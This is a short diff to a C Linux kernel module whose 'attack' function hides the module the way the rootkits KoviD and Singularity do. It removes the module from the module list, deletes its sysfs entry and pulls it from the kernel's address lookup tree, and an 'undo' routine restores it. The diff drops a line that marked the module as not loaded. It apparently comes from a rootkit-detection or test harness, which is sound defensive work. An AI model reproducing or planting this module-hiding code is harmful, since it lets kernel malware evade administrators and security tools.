@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
 /*
  * The module is in no list, not in sysfs and not in the tree by which the kernel finds the module
- * of an address, and its own structure says that it is not loaded: what KoviD and Singularity do.
+ * of an address: what KoviD and Singularity do.
  */
 #include "attack.h"
 
@@ -59,13 +59,11 @@ static int attack(void)
 	list_del(&THIS_MODULE->list);
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	in_tree(false);
-	THIS_MODULE->state = MODULE_STATE_UNFORMED;
 	return 0;
 }
 
 static void undo(void)
 {
-	THIS_MODULE->state = MODULE_STATE_LIVE;
 	in_tree(true);
 	list_add(&THIS_MODULE->list, before);
 	if (kobject_add(&THIS_MODULE->mkobj.kobj, THIS_MODULE->mkobj.kobj.parent, "%s",
